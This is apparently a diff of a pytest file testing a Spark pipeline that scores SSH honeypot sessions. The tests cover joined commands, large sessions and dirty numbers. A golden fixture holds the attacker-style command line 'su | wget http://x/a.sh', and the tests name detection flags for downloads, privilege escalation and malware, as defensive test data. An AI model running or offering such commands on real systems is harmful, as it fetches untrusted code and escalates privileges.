@@ -18,11 +18,20 @@ def rows(df, key="session_id"):
     return {r[key]: r for r in df.collect()}
 
 
+def joined(events):
+    """The pieces of each session put together."""
+    pieces = {}
+    for r in SE.joined_commands(events).collect():
+        pieces.setdefault(r["session_id"], []).append((r["position"], r["piece"]))
+    return {name: "".join(p for _, p in sorted(found)) for name, found in pieces.items()}
+
+
 def test_golden_sessions(spark, micro_dir):
-    got = rows(SE.session_table(logs.scan_jsonl(spark, micro_dir)))
+    raw = logs.scan_jsonl(spark, micro_dir)
+    got, text = rows(SE.session_features(raw)), joined(raw)
     assert set(got) == {"s1", "s2", "s3"}
     s1, s2, s3 = got["s1"], got["s2"], got["s3"]
-    assert s1["commands"] == "su | wget http://x/a.sh"
+    assert text == {"s1": "su | wget http://x/a.sh"}
     assert (s1["login_attempt_count"], s1["command_count"], s1["event_count"]) == (2, 2, 6)
     assert [n for n in S.PATTERNS if s1[n]] == [
         "has_download_command", "has_privilege_escalation", "has_malware_indicators"]
@@ -32,7 +41,7 @@ def test_golden_sessions(spark, micro_dir):
     assert (s1["client_version"], s1["hassh"], s1["start_time"][:19]) == ("v1", "h1", "2024-01-01T00:00:01")
     assert (s2["threat_score"], s2["threat_level"], s2["duration"], s2["username"]) == (0, "low", 1.0, None)
     assert (s3["threat_score"], s3["threat_level"], s3["duration"], s3["end_time"]) == (5, "medium", 0.0, None)
-    assert s2["commands"] == "" and s2["event_count"] == 3
+    assert s2["event_count"] == 3
 
 
 def test_golden_profiles(spark, micro_dir):
@@ -103,39 +112,47 @@ def test_tokens_equal_the_split_of_the_joined_text(spark, limit):
     assert got == want
 
 
-@pytest.mark.parametrize("limit", [2, 100])
-def test_parts_put_together_give_the_joined_text(spark, limit):
+def test_pieces_put_together_give_the_joined_text(spark):
     typed = random_sessions(5)
-    parts = {}
-    for r in SE.joined_commands(make_events(spark, typed), limit).collect():
-        parts.setdefault(r["session_id"], {})[r["part"]] = r["commands"]
-    for name, inputs in typed.items():
-        assert " | ".join(parts[name][p] for p in sorted(parts[name])) == " | ".join(inputs)
-        if len(inputs) <= limit:
-            assert set(parts[name]) == {0}
-        else:
-            assert min(parts[name]) > 0 and len(parts[name]) >= len(inputs) / limit
+    assert joined(make_events(spark, typed)) == {name: " | ".join(inputs) for name, inputs in typed.items()}
 
 
-def test_one_session_with_a_third_of_all_events(spark):
-    """All its events carry the same time, so nothing but the sort can divide them."""
-    hot = [WORDS[i % len(WORDS)] for i in range(2000)]
-    typed = {"hot": hot, **{f"c{i}": ["ls", "id"] for i in range(2000)}}
+@pytest.mark.parametrize("size", [1, 30_000])
+def test_one_grain_at_any_size(spark, size):
+    """A session with a third of all events, all of one time: one session row, one row per entry, the same profiles."""
+    hot = [WORDS[i % len(WORDS)] for i in range(size)]
+    typed = {"hot": hot, **{f"c{i}": ["ls", "id"] for i in range(size)}}
     events = make_events(spark, typed).withColumn("timestamp", F.lit("2024-01-01T00:00:00Z"))
-    lists = SE.session_lists(events, limit=100).where("session_id = 'hot'")
-    sizes = [r[0] for r in lists.select(F.size("commands")).collect()]
-    assert sum(sizes) == 2000 and max(sizes) <= 100 and len(sizes) >= 20
+    sessions = SE.session_features(events)
+    assert sessions.groupBy("session_id").count().where("count > 1").isEmpty() and sessions.count() == size + 1
+    assert sessions.where("session_id = 'hot'").first()["command_count"] == size
+    assert SE.session_entries(events).count() == 3 * size and SE.commands(events).count() == 3 * size
+    assert SE.joined_commands(events).select("session_id", "position").distinct().count() == 3 * size
+    assert P.basic_statistics(sessions, E.events_b(events)).first()["total_sessions"] == size + 1
     got = Counter(r["command"] for r in SE.command_tokens(events, limit=100).where("session_id = 'hot'").collect())
     assert got == Counter(" | ".join(hot).split(" | "))
 
 
 def test_long_texts_are_cut_by_their_size(spark):
-    typed = {"a": ["x" * 300] * 10 + ["y" * 900] + ["z"] * 50, "b": ["ls"] * 20}
-    lists = SE.session_lists(make_events(spark, typed), limit=1000, chars=1000).collect()
-    parts = sorted((r for r in lists if r["session_id"] == "a"), key=lambda r: r["part"])
-    assert max(sum(len(c["input"]) for c in r["commands"]) for r in parts) <= 1000
-    assert [c["input"] for r in parts for c in r["commands"]] == typed["a"]
-    assert [r["part"] for r in lists if r["session_id"] == "b"] == [0]
+    typed = {"a": ["x" * 300] * 10 + ["y" * 900, ""] + ["z"] * 50, "b": ["ls"] * 20}
+    events = make_events(spark, typed)
+    cut = SE._text_parts(events, 1000, 1000).collect()
+    assert max(len(r["commands"]) for r in cut) <= 1000 + 50 * 3
+    assert [r["part"] for r in cut if r["session_id"] == "b"] == [0] and sum(r["session_id"] == "a" for r in cut) > 3
+    got = Counter((r["session_id"], r["command"]) for r in SE.command_tokens(events, 1000, 1000).collect())
+    assert got == Counter((n, t) for n, i in typed.items() for t in " | ".join(i).split(" | "))
+
+
+def test_dirty_numbers_do_not_abort(spark):
+    values = ["0.004", "0.004", "1e17", "Infinity", "-Infinity", "NaN", "x", None, "1e10"]
+    data = [(f"s{i}", S.EVENT_CLOSED, v, i) for i, v in enumerate(values)]
+    df = spark.createDataFrame(data, "session string, eventid string, duration string, ord long")
+    df = df.withColumns({n: F.lit(None).cast("string") for n in S.RAW_FIELDS if n not in df.columns})
+    got = rows(SE.session_features(df))
+    assert [got[f"s{i}"]["duration"] for i in range(len(values))] == [0.004, 0.004, 1e17, 0.0, 0.0, 0.0, 0.0, 0.0, 1e10]
+    low = SE.session_features(df.where("session IN ('s0', 's1')"))
+    assert rows(P.threat_characteristics(low), "threat_level")["low"]["avg_duration"] == 0.004
+    assert rows(P.threat_characteristics(SE.session_features(df)), "threat_level")["low"]["avg_duration"] > 1e16
 
 
 @pytest.mark.parametrize("word", ["|", "| |", "a |", " |", "| | |"])
